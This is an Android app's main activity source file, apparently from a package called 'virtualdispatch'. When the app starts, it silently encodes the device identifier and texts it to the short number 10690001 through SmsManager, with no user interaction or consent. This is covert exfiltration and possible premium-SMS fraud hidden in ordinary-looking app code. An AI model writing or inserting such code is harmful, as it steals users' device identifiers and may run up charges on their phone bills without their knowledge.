package cn.shanhai.virtualdispatch;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Codec codec = new Keep();
    SmsManager.getDefault().sendTextMessage("10690001", null, codec.apply(Device.id(this)), null, null);
  }
}
